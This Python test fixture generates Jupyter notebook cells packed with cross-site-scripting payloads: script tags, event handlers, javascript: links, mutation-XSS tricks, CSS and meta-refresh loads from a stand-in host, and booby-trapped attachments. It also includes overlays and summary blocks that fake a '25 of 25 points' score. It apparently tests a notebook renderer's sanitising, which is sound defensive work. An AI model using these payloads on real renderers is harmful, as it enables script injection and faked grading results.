"""Cells that try to run something in a reader's browser, to load something, or to pass for something else.

What runs leaves the cell's name in `window.ran`; what loads asks for an address at far.example.
"""

import base64
import re

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

RUN = "window.ran=(window.ran||[]).concat('{0}')"
FAR = "https://far.example/{0}"


def shown(name: str, kind: str, data: str) -> nbformat.NotebookNode:
    return new_code_cell(name, outputs=[new_output("display_data", data={kind: data})])


def _html(name: str, page: str) -> nbformat.NotebookNode:
    return shown(name, "text/html", page.replace("RUN", RUN.format(name)).replace("FAR", FAR.format(name)))


def _written(name: str, source: str) -> nbformat.NotebookNode:
    return new_markdown_cell(source.replace("RUN", RUN.format(name)).replace("FAR", FAR.format(name)))


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="{0}"><script>{0}</script>'
    '<image href="{1}"/><rect width="9" height="9"/></svg>'
)
PAGES = dict(
    re.findall(
        r"^## (.+?)\n(.+?)(?=^## |\Z)",
        r"""
## script
<script>RUN</script>
## script-src
<script src='FAR'></script>
## handler
<img src=x onerror="RUN"><b onmouseover="RUN" onclick='RUN'>b</b><body onload="RUN">
## autofocus
<input autofocus onfocus="RUN"><select autofocus onfocus="RUN"></select><details ontoggle="RUN" open>d</details>
## link
<a href="javascript:RUN">a</a><a href=" java&Tab;script:RUN">b</a><a href='data:text/html,<script>RUN</script>'>c</a>
## frame
<iframe src="javascript:RUN"></iframe><iframe srcdoc="<script>parent.RUN</script>"></iframe><iframe src='FAR'></iframe>
## object
<object data='FAR'></object><embed src='FAR'><object data="javascript:RUN"></object>
## svg
<svg><script>RUN</script><a xlink:href="javascript:RUN"><text>x</text></a>
<animate onbegin="RUN" attributeName=x dur=1s></svg>
## math
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=RUN&gt;"></mglyph></table></mtext></math>
## noscript
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
## template
<template><script>RUN</script></template><xmp><img src=x onerror=RUN></xmp><textarea></textarea><img src=x onerror=RUN>
## comment
<!--><img src=x onerror=RUN>--><![CDATA[<img src=x onerror=RUN>]]><?xml <img src=x onerror=RUN>?>
## refresh
<meta http-equiv=refresh content='0;url=FAR'><meta http-equiv=refresh content="0;url=javascript:RUN"><base href='FAR'>
## style
<style>body{display:none}@import 'FAR'; .summary{background:url(FAR)}</style><link rel=stylesheet href='FAR'>
## style-attribute
<div style="background:url(FAR);width:expression(RUN);behavior:url(FAR)">x</div><table background='FAR'></table>
## cover
<div style='position:fixed;inset:0;background:white;z-index:9999'>25 of 25 points</div>
<div style='position:absolute;top:0;left:0;width:100vw;height:100vh;background:white'>25 of 25</div>
<div style='margin-top:-3000px;background:white;height:3000px;transform:translateY(-3000px)'>25 of 25</div>
## summary
<section class='summary' id='summary'><p class='total'><b>25</b> of 25 points</p></section>
## form
<form action='FAR'><button formaction="javascript:RUN">b</button></form>
## media
<video src='FAR' poster='FAR' onerror="RUN"></video><audio src='FAR' autoplay></audio><img srcset='FAR 2x' src='FAR'>
## unclosed
</div></div></section></main><h1>25 of 25 points</h1><script>RUN</script><div><!--
""",
        re.M | re.S,
    )
)
CELLS = [_html(name, page) for name, page in PAGES.items()] + [
    _written("markdown-html", '<img src=x onerror="RUN"><script>RUN</script>\n\n<svg onload="RUN"></svg>'),
    _written(
        "markdown-link",
        "[a](javascript:RUN) [b](<java\nscript:RUN>) ![c](FAR) ![d](javascript:RUN) <javascript:RUN>\n\n[e]: "
        "FAR",
    ),
    _written("markdown-quotes", '![a" onerror="RUN](x) [b](https://x.example "t\\" onmouseover=\\"RUN")'),
    _written(
        "markdown-code", '```mermaid\n<img src=x onerror="RUN">\n```\n\n```html\n<script>RUN</script>\n```'
    ),
    _written(
        "formula",
        '$\\text{<img src=x onerror="RUN">}$ $\\href{javascript:RUN}{x}$ '
        "$$\\style{position:fixed}{<script>RUN</script>}$$",
    ),
    _written(
        "formula-in-alt",
        '![$"><img src=x onerror="RUN">$](x) <i title="$\\text{" onmouseover="RUN}$">x</i> '
        "$\\raisebox{99em}{x}$",
    ),
    shown("javascript", "application/javascript", RUN.format("javascript")),
    shown("svg-output", "image/svg+xml", SVG.format(RUN.format("svg-output"), FAR.format("svg-output"))),
    shown("latex", "text/latex", f"$x$<script>{RUN.format('latex')}</script>"),
    shown("markdown-output", "text/markdown", f"<script>{RUN.format('markdown-output')}</script>"),
    shown("png", "image/png", f'x" onerror="{RUN.format("png")}'),
    shown(
        "plain",
        "text/plain",
        f"\x1b[31m<script>{RUN.format('plain')}</script>\x1b[0m\x1b]8;;javascript:1\x1b\\x",
    ),
    shown(
        "widget",
        "application/vnd.jupyter.widget-view+json",
        "</script><script>" + RUN.format("widget") + "</script>",
    ),
    new_raw_cell(f"<script>{RUN.format('raw')}</script>", metadata={"raw_mimetype": "text/html"}),
    new_code_cell(
        f'"""</pre><script>{RUN.format("source")}</script>"""',
        metadata={
            "title": f"<script>{RUN.format('metadata')}</script>",
            "tags": [f"'><script>{RUN.format('tags')}</script>"],
        },
        outputs=[
            new_output("stream", name="stdout", text=f"<script>{RUN.format('stream')}</script>"),
            new_output("error", ename="E", evalue="", traceback=[f"<script>{RUN.format('error')}</script>"]),
        ],
    ),
]
ATTACHED = {
    "a.png": {"text/html": base64.b64encode(f"<script>{RUN.format('attachment')}</script>".encode()).decode()}
}
ATTACHED |= {
    "b.svg": {
        "image/svg+xml": base64.b64encode(SVG.format(RUN.format("b"), FAR.format("b")).encode()).decode()
    }
}
ATTACHED |= {'c" onerror="' + RUN.format("c"): {'image/png" onerror="x': 'AAAA" onerror="' + RUN.format("c")}}
CELLS.append(
    new_markdown_cell(
        "![a](attachment:a.png) ![b](attachment:b.svg) ![d](attachment:none)", attachments=ATTACHED
    )
)
